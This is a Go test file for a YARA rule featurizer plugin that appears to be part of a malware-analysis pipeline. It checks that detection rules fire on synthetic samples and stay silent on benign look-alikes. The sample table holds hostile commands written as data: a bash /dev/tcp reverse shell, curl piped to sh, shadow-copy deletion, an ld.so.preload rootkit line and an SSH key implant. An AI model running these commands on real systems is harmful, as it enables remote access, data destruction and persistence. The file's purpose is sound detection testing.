package yara

import (
	"context"
	"encoding/binary"
	"errors"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/scalemalnet/scalemalnet/featurizers/features"
	"github.com/scalemalnet/scalemalnet/plugins"
	"github.com/scalemalnet/scalemalnet/plugins/host"
)

// Small files each shipped rule must (or must not) match.
func upxELF() []byte {
	b := make([]byte, 512)
	copy(b, "\x7fELF\x02\x01\x01")
	copy(b[0xec:], "UPX!")
	return b
}

func pe(body string) []byte {
	b := make([]byte, 0x200)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x80:], "PE\x00\x00")
	return append(b, body...)
}

var samples = []struct {
	name    string
	content []byte
	want    []string
}{
	{"upx elf", upxELF(), []string{"upx_packed_elf"}},
	{"upx pe", pe("UPX0\x00\x00\x00\x00UPX1"), []string{"upx_packed_pe"}},
	{"reverse shell script", []byte("#!/bin/sh\nbash -i >& /dev/tcp/10.0.2.2/4444 0>&1\n"), []string{"reverse_shell_oneliner", "dev_tcp_redirection"}},
	{"miner config", []byte(`{"url": "stratum+tcp://pool.example:3333", "algo": "rx/0"}`), []string{"crypto_miner_strings"}},
	{"injector", pe("OpenProcess\x00VirtualAllocEx\x00WriteProcessMemory\x00CreateRemoteThread\x00"), []string{"pe_remote_thread_injection_imports"}},
	{"run key", pe("Software\\Microsoft\\Windows\\CurrentVersion\\Run\x00"), []string{"pe_run_key_persistence"}},
	{"ransom note", []byte("cmd /c vssadmin delete shadows /all /quiet"), []string{"shadow_copy_deletion"}},
	{"preload", []byte("echo /tmp/x.so > /etc/ld.so.preload"), []string{"ld_preload_rootkit"}},
	{"ssh key", []byte("echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG >> ~/.ssh/authorized_keys"), []string{"ssh_key_implant"}},
	{"curl pipe", []byte("curl -fsSL http://10.0.2.2/i.sh | sh"), []string{"download_pipe_to_shell"}},
	// Benign look-alikes: a plain ELF, a PE naming only WriteProcessMemory,
	// text about TCP.
	{"plain elf", append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 600)...), nil},
	{"debugger pe", pe("WriteProcessMemory\x00ReadProcessMemory\x00"), nil},
	{"text", []byte("TCP uses a three-way handshake; see /dev/null and UPX! later in the file" + strings.Repeat(" ", 2000)), nil},
}

func TestShippedRules(t *testing.T) {
	rs, err := Compile(Rules())
	if err != nil {
		t.Fatal(err)
	}
	if rs.Len() < 10 {
		t.Fatalf("%d shipped rules", rs.Len())
	}
	for _, s := range samples {
		ms, err := rs.Scan(s.content, 5*time.Second)
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]features.Match{}
		for _, m := range ms {
			got[m.ID] = m
			if err := m.Check(); err != nil {
				t.Errorf("%s: %v", s.name, err)
			}
		}
		if len(got) != len(s.want) {
			t.Errorf("%s: matched %v, want %v", s.name, keys(got), s.want)
		}
		for _, w := range s.want {
			m, ok := got[w]
			if !ok {
				t.Errorf("%s: %s did not match", s.name, w)
				continue
			}
			if m.Source != "yara" || len(m.Techniques) == 0 || m.Severity < 2 || len(m.Evidence) == 0 || m.Description == w {
				t.Errorf("%s: match %+v lacks its meta or evidence", s.name, m)
			}
		}
	}
}

func keys(m map[string]features.Match) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

// A rule file that does not compile, or whose meta is wrong, is refused
// with its file and line.
func TestCompileRefusesWithFileAndLine(t *testing.T) {
	good := "rule ok { strings: $a = \"x\" condition: $a }\n"
	cases := []struct {
		name  string
		files fstest.MapFS
		want  string
	}{
		{"syntax", fstest.MapFS{"a.yar": {Data: []byte(good)}, "b.yar": {Data: []byte("rule ok2 {\n  strings: $a = \"x\"\n  condition: $b\n}\n")}}, `b.yar:4: undefined string "$b"`},
		{"unbalanced", fstest.MapFS{"c.yar": {Data: []byte("\n\nrule x {\n condition: (true\n}\n")}}, "c.yar:5:"},
		{"bad severity", fstest.MapFS{"d.yar": {Data: []byte("rule x { meta: severity = \"loud\" condition: true }\n")}}, `d.yar: rule x: severity "loud"`},
		{"bad technique", fstest.MapFS{"e.yar": {Data: []byte("rule x { meta: techniques = \"T59\" condition: true }\n")}}, `technique "T59"`},
		{"include", fstest.MapFS{"f.yar": {Data: []byte("include \"/etc/passwd\"\nrule x { condition: true }\n")}}, "f.yar:1:"},
		{"empty", fstest.MapFS{}, "no *.yar rule files"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := Compile(c.files)
			if err == nil || !errors.Is(err, ErrRule) || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("error %v, want ErrRule with %q", err, c.want)
			}
		})
	}
}

// buildPlugin builds cmd/yara-featurizer once per test binary.
func buildPlugin(t *testing.T) (string, string) {
	t.Helper()
	if _, err := exec.LookPath("go"); err != nil {
		t.Skip("no go toolchain to build the plugin")
	}
	bin := filepath.Join(t.TempDir(), "yara")
	if out, err := exec.Command("go", "build", "-o", bin, "./cmd/yara-featurizer").CombinedOutput(); err != nil {
		t.Fatalf("build: %v\n%s", err, out)
	}
	sum, err := host.FileSHA256(bin)
	if err != nil {
		t.Fatal(err)
	}
	return bin, sum
}

// The real plugin process: scans small files through the orchestrator's
// plugin host; a rules directory that does not compile refuses it at
// start with the file and line.
func TestPluginProcess(t *testing.T) {
	if testing.Short() {
		t.Skip("builds and runs the plugin binary")
	}
	bin, sum := buildPlugin(t)
	rulesDir := t.TempDir()
	os.WriteFile(filepath.Join(rulesDir, "bad.yar"), []byte("rule a {\n  condition:\n    nope(\n}\n"), 0o600)
	m := host.New(host.Config{Builtins: []host.Source{
		{Name: "yara", Path: bin, SHA256: sum},
	}})
	bad := host.New(host.Config{Builtins: []host.Source{
		{Name: "yara", Path: bin, SHA256: sum, Config: []byte(`{"rules_dir": "` + rulesDir + `"}`)},
	}})
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	if err := m.Start(ctx); err != nil {
		t.Fatal(err)
	}
	defer m.Close()
	if err := bad.Start(ctx); err != nil {
		t.Fatal(err)
	}
	defer bad.Close()
	st := bad.List()
	if len(st) != 1 || st[0].State != host.StateRefused || !strings.Contains(st[0].LastError, "bad.yar:3: undefined identifier") {
		t.Fatalf("bad rules: %+v, want refused naming bad.yar:3", st)
	}
	fz := m.Plugins(plugins.KindFeaturizer)
	if len(fz) != 1 {
		t.Fatalf("plugins: %+v", m.List())
	}
	for _, s := range samples {
		sets, err := fz[0].Featurize(ctx, plugins.FeaturizeInput{Content: s.content})
		if err != nil || len(sets) != 1 || sets[0].Name != SetName {
			t.Fatalf("%s: %v %+v", s.name, err, sets)
		}
		ms, err := features.DecodeMatches(sets[0])
		if err != nil {
			t.Fatal(err)
		}
		if len(ms) != len(s.want) {
			t.Errorf("%s through the plugin: %d matches, want %v", s.name, len(ms), s.want)
		}
	}
	// An empty file scans to no match.
	sets, err := fz[0].Featurize(ctx, plugins.FeaturizeInput{Content: nil})
	if err != nil || sets[0].Meta["scanned_bytes"] != "0" {
		t.Fatalf("empty file: %v %+v", err, sets)
	}
}

// Files past max_bytes are scanned up to it, and the set says so.
func TestMaxBytes(t *testing.T) {
	f := New(func(string) fs.FS { return nil })
	if err := f.Configure(context.Background(), []byte(`{"max_bytes": 16}`)); err != nil {
		t.Fatal(err)
	}
	content := append(make([]byte, 100), "bash -i >& /dev/tcp/10.0.2.2/4444 0>&1"...)
	sets, err := f.Featurize(context.Background(), plugins.FeaturizeInput{Content: content})
	if err != nil {
		t.Fatal(err)
	}
	ms, _ := features.DecodeMatches(sets[0])
	if len(ms) != 0 || sets[0].Meta["truncated"] != "true" || sets[0].Meta["scanned_bytes"] != "16" {
		t.Fatalf("capped scan: %+v %v", ms, sets[0].Meta)
	}
	for _, bad := range []string{`{"max_bytes": -1}`, `{"timeout_seconds": 600}`, `{"nope": 1}`} {
		if err := f.Configure(context.Background(), []byte(bad)); err == nil {
			t.Errorf("config %s accepted", bad)
		}
	}
}

// docs/signatures.md lists every shipped YARA rule.
func TestDocsListEveryRule(t *testing.T) {
	b, err := os.ReadFile(filepath.Join("..", "..", "docs", "signatures.md"))
	if err != nil {
		t.Skipf("no docs/signatures.md beside the package: %v", err)
	}
	rs, err := Compile(Rules())
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rs.rules.GetRules() {
		if !strings.Contains(string(b), "| `"+r.Identifier()+"` |") {
			t.Errorf("docs/signatures.md lacks YARA rule %s", r.Identifier())
		}
	}
}
